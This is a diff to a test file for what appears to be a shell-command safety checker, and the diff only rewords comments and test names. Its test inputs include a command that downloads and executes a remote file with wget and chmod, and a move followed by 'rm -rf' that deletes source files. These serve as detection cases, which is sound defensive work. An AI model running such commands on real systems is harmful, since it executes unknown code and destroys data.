@@ -1,4 +1,4 @@
-/** What one part of a text does to what its later parts mean. */
+/** The effects of one part of a text on the meaning of its later parts. */
 import { describe, expect, test } from "vitest";
 import { summaryOf } from "../programs/rig.ts";
 
@@ -25,7 +25,7 @@ describe("files that are written and then run", () => {
     "wget -O run https://example.com/run; chmod +x run; ./run",
     "make-script > x.sh; bash x.sh",
     "echo $UNKNOWN > x.sh; bash x.sh",
-  ])("[policy.shell.written] nobody knows what it runs: %s", text => {
+  ])("[policy.shell.written] the text that it runs is unknown: %s", text => {
     expect(isOpaque(text)).toBe(true);
   });
 
@@ -42,7 +42,7 @@ describe("files that are written and then run", () => {
   });
 });
 
-test("[policy.shell.moved] what is deleted where it was moved to is deleted", () => {
+test("[policy.shell.moved] a file that is moved and then deleted counts as deleted", () => {
   expect(deletesSource("mv src /tmp/x && rm -rf /tmp/x")).toBe(true);
   expect(deletesSource("mv src /tmp/x && rm -rf /tmp/y")).toBe(false);
 });
